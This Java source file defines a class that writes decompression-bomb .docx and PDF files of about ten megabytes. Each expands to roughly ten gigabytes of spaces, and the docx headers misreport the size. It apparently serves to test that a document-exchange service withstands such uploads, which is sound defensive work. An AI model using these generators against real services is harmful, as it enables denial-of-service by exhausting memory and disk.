package org.canyue.exchange;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.zip.Deflater;

/** Files of some ten megabytes that expand to ten gigabytes of spaces, written without ever expanding them. */
final class Bomb {
    private static final int BLOCK = 1 << 20;
    private static final int BLOCKS = 10 * 1024;

    private Bomb() {
    }

    /** A .docx; its header claims that the document is small. */
    static Path docx(Path file) throws IOException {
        byte[] name = "word/document.xml".getBytes(StandardCharsets.US_ASCII);
        byte[] block = block();
        int size = block.length * BLOCKS + 5;
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(header(0x04034b50, size, name, false));
            deflated(out, block);
            int directory = 30 + name.length + size;
            byte[] entry = header(0x02014b50, size, name, true);
            out.write(entry);
            out.write(little(22).putInt(0x06054b50).putInt(0).putShort((short) 1).putShort((short) 1)
                    .putInt(entry.length).putInt(directory).putShort((short) 0).array());
        }
        return file;
    }

    /** A PDF whose only page has such a stream. */
    static Path pdf(Path file) throws IOException {
        byte[] block = block();
        try (OutputStream out = Files.newOutputStream(file)) {
            out.write(
                    ("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
                            + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>endobj\n4 0 obj<</Filter/FlateDecode/Length "
                            + (block.length * BLOCKS + 7) + ">>stream\n").getBytes(StandardCharsets.US_ASCII));
            out.write(new byte[]{0x78, (byte) 0x9c});
            deflated(out, block);
            out.write("\nendstream endobj\ntrailer<</Root 1 0 R>>\n%%EOF".getBytes(StandardCharsets.US_ASCII));
        }
        return file;
    }

    private static void deflated(OutputStream out, byte[] block) throws IOException {
        for (int i = 0; i < BLOCKS; i++) {
            out.write(block);
        }
        // An empty stored block that says it is the last.
        out.write(new byte[]{1, 0, 0, (byte) 0xff, (byte) 0xff});
    }

    /** A megabyte of spaces, so that any number of it in a row is one stream. */
    private static byte[] block() {
        var deflater = new Deflater(9, true);
        byte[] spaces = " ".repeat(BLOCK).getBytes(StandardCharsets.US_ASCII);
        deflater.setInput(spaces);
        var out = new ByteArrayOutputStream();
        byte[] buffer = new byte[8192];
        for (int n = deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH); n > 0; n = deflater
                .deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH)) {
            out.write(buffer, 0, n);
        }
        deflater.end();
        return out.toByteArray();
    }

    private static byte[] header(int signature, int size, byte[] name, boolean central) {
        ByteBuffer header = little((central ? 46 : 30) + name.length).putInt(signature);
        if (central) {
            header.putShort((short) 20);
        }
        header.putShort((short) 20).putShort((short) 0).putShort((short) 8).putInt(0).putInt(0).putInt(size)
                .putInt(1000).putShort((short) name.length).putShort((short) 0);
        if (central) {
            header.putShort((short) 0).putShort((short) 0).putShort((short) 0).putInt(0).putInt(0);
        }
        return header.put(name).array();
    }

    private static ByteBuffer little(int size) {
        return ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
    }
}
